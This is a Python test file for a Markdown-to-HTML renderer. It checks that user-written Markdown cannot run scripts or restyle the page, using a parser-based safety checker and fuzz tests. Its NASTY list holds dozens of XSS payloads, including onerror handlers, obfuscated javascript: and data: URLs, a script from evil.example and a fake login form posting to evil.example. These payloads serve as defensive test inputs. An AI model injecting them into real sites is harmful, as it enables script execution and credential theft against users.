"""Markdown rendering: what users write shows as formatted text; nothing in it runs or restyles the page."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hopla.markdown import markdown_to_html

ALLOWED_TAGS = {
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "img",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}
SAFE_SCHEMES = {"", "http", "https", "mailto"}


class _SafetyCheck(HTMLParser):
    """Collects every way the rendered HTML could run code or restyle the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.links: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"handler {name} on <{tag}>")
            if name == "class":
                self.problems.append(f"class on <{tag}>")
            if name == "style" and (tag not in {"td", "th"} or (value or "").split(":")[0] != "text-align"):
                self.problems.append(f"style {value!r} on <{tag}>")
            if name in {"href", "src"}:
                # Browsers drop tabs, newlines and leading controls/spaces before reading the scheme.
                url = "".join(ch for ch in value or "" if ch > " ").lower()
                if urlsplit(url).scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r} on <{tag}>")
        if tag == "a":
            self.links.append(attributes)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")


def check(source: str) -> tuple[str, _SafetyCheck]:
    html = markdown_to_html(source)
    checker = _SafetyCheck()
    checker.feed(html)
    checker.close()
    assert checker.problems == [], (source, html)
    for link in checker.links:
        assert link.get("rel") == "nofollow noopener noreferrer", (source, html)
    return html, checker


def test_markdown_renders_the_usual_formatting():
    html = markdown_to_html(
        "# Title\n\nSome **bold**, _italic_, ~~gone~~ and `code`.\n\n"
        "- one\n- two\n\n3. three\n\n> quoted\n\n```python\nprint('<hi>')\n```\n\n"
        "| left | right |\n| :-- | --: |\n| a | b |\n\n"
        '[docs](https://example.com/docs "The docs") and ![logo](https://example.com/logo.png) and '
        "[a ticket](/board/OPS/?ticket=OPS-3) and <https://example.com/auto>\n"
    )
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<em>italic</em>" in html
    assert "<s>gone</s>" in html
    assert "<code>code</code>" in html
    assert "<ul>\n<li>one</li>" in html
    assert '<ol start="3">' in html
    assert "<blockquote>" in html
    # The language class is dropped with every class; the code stays, escaped.
    assert "<pre><code>print('&lt;hi&gt;')\n</code></pre>" in html
    assert '<th style="text-align:left">left</th>' in html
    assert '<td style="text-align:right">b</td>' in html
    assert '<a href="https://example.com/docs" title="The docs" rel="nofollow noopener noreferrer">docs</a>' in html
    assert '<img src="https://example.com/logo.png" alt="logo">' in html
    assert '<a href="/board/OPS/?ticket=OPS-3" rel="nofollow noopener noreferrer">a ticket</a>' in html
    assert '<a href="https://example.com/auto" rel="nofollow noopener noreferrer">' in html
    check(html)


def test_the_result_is_marked_safe_for_templates():
    from django.template import Context, Template

    rendered = Template("{{ html }}").render(Context({"html": markdown_to_html("**x** <b>y</b>")}))
    assert rendered == "<p><strong>x</strong> &lt;b&gt;y&lt;/b&gt;</p>\n"


# From the OWASP XSS filter evasion cheat sheet and PortSwigger's XSS cheat sheet, in Markdown's own
# link and image syntax as well as in raw HTML.
NASTY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>body { display: none }</style>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>cover</div>",
    "<p style='color:red'>red</p>",
    "<span class='modal-backdrop'>fake dialog</span>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\u0000script:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java script:alert(1)>)",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x](x "title" onerror="alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x][ref]\n\n[ref]: <javascript:alert(1)> "t"',
    "![x][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| [x](javascript:alert(1)) | c |",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example)<script>alert(1)</script>",
    "\u202e[x](javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
]


@pytest.mark.parametrize("source", NASTY)
def test_nothing_in_nasty_input_can_run_or_restyle_the_page(source):
    html, _ = check(source)
    assert "<script" not in html.lower()  # shown as text, escaped: "&lt;script"


def test_raw_html_is_shown_as_text():
    assert markdown_to_html("<b>bold?</b> & <i>") == "<p>&lt;b&gt;bold?&lt;/b&gt; &amp; &lt;i&gt;</p>\n"


def test_data_urls_are_stripped_even_for_images_markdown_it_allows():
    assert markdown_to_html("![x](data:image/png;base64,iVBORw0KGgo=)") == '<p><img alt="x"></p>\n'


# Pathological shapes: unclosed brackets and emphasis, deep nesting, wide tables. Each renders (no
# RecursionError, no hang) and stays safe. 10 000 characters keeps the test fast; markdown-it's work on
# these grows linearly, and the API caps a description at 50 000.
HUGE = {
    "open brackets": "[" * 10_000,
    "open images": "![" * 5_000,
    "unclosed emphasis": "*a" * 5_000,
    "mixed emphasis": "_a*" * 3_300,
    "deep quotes": ">" * 10_000 + " x",
    "deep lists": "".join("  " * depth + "- x\n" for depth in range(300)),
    "nested links": "[" * 2_000 + "x" + "](javascript:alert(1))" * 2_000,
    "backticks": "`" * 10_000,
    "wide table": "|a" * 500 + "\n" + "|-" * 500 + "\n" + "|<img src=x onerror=alert(1)>" * 200 + "\n",
    "many links": "[a](javascript:alert(1)) [b](https://ok.example) " * 250,
    "angle brackets": "<" * 10_000,
    "entities": "&#0;&#xD800;&#x110000;&amp;" * 500,
}


@pytest.mark.parametrize("source", HUGE.values(), ids=HUGE.keys())
def test_huge_and_pathological_input_renders_safely(source):
    html, _ = check(source)
    assert len(html) < 20 * len(source) + 1_000


def test_a_description_at_the_api_limit_renders():
    source = ("## Heading\n\nText with **bold** and [a link](https://ok.example).\n\n- item\n" * 1_000)[:50_000]
    html, checker = check(source)
    assert html.count("<h2>") == source.count("## Heading")
    assert len(checker.links) == source.count("](https")


PIECES = st.sampled_from(
    [
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "!",
        "*",
        "_",
        "`",
        '"',
        "'",
        "\n",
        " ",
        "\t",
        "&#",
        ";",
        ":",
        "|",
        "-",
        "javascript:",
        "data:",
        "vbscript:",
        "alert(1)",
        "onerror=",
        "<script>",
        "<img src=x ",
        "style=",
        "https://ok.example",
        "&#106;",
        "&#x3A;",
        "\x00",
        "\u200b",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_any_mix_of_dangerous_pieces_stays_safe(source):
    check(source)
